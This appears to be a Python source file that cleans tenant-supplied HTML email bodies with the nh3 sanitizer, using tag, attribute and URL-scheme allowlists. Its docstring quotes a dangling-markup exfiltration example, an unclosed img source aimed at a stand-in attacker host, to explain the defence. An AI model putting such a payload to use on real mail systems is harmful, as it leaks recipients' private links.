"""A tenant's HTML mail body, cleaned into markup that cannot reach past itself.

The platform's layout puts the recipient's personal link (a button) after the tenant's body.
Raw HTML from a template could leave something open that swallows that button: an attribute
quote (``<img src='https://attacker.example/?u=`` takes everything up to the next ``'``), a
``<style>`` block (the button's address becomes part of a CSS ``url(``), a comment, a
``<textarea>``; a ``<style>`` could also read the link's address through attribute
selectors. So the body is never inserted as the template wrote it: it is parsed and written
out again by nh3 (the ammonia HTML sanitizer, linear in its input) from an allowlist of
formatting tags and attributes, every element closed. Scripts, styles, forms and other active
or swallowing elements are dropped with their content.
"""

from __future__ import annotations

from typing import Any

import nh3

from app.services.errors import InvalidInput


def _names(text: str) -> set[str]:
    return set(text.split())


MAX_HTML = 400_000
"""Characters a cleaned body may have (the child's output cap, plus escaping)."""

ALLOWED_TAGS = _names(
    "a abbr address b bdi bdo big blockquote br caption center cite code col colgroup dd del "
    "dfn div dl dt em font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small "
    "span strike strong sub sup table tbody td tfoot th thead time tr tt u ul var wbr"
)
DROPPED_WITH_CONTENT = _names(
    "applet audio button canvas datalist embed frame frameset head iframe math noembed "
    "noframes noscript object option plaintext script select style svg template textarea "
    "title video xmp"
)
ALLOWED_ATTRIBUTES = _names(
    "abbr align alt aria-hidden aria-label background bgcolor border cellpadding cellspacing "
    "cite class color cols colspan datetime dir face headers height href hspace lang role "
    "rowspan scope size span src start style summary title type valign value vspace width"
)
URL_SCHEMES = {"https", "http", "mailto", "tel"}


def safe_html(html: Any) -> str:
    """The body as allowlisted, closed markup.

    Raises:
        InvalidInput: ``error.template_too_expensive`` when the result would be too long.
    """
    if not isinstance(html, str):
        return ""
    cleaned = nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        clean_content_tags=DROPPED_WITH_CONTENT,
        attributes={"*": ALLOWED_ATTRIBUTES},
        url_schemes=URL_SCHEMES,
        strip_comments=True,
        link_rel=None,  # the tenant's links as written (rel only matters in browsers)
    )
    if len(cleaned) > MAX_HTML:
        raise InvalidInput("error.template_too_expensive")
    return cleaned
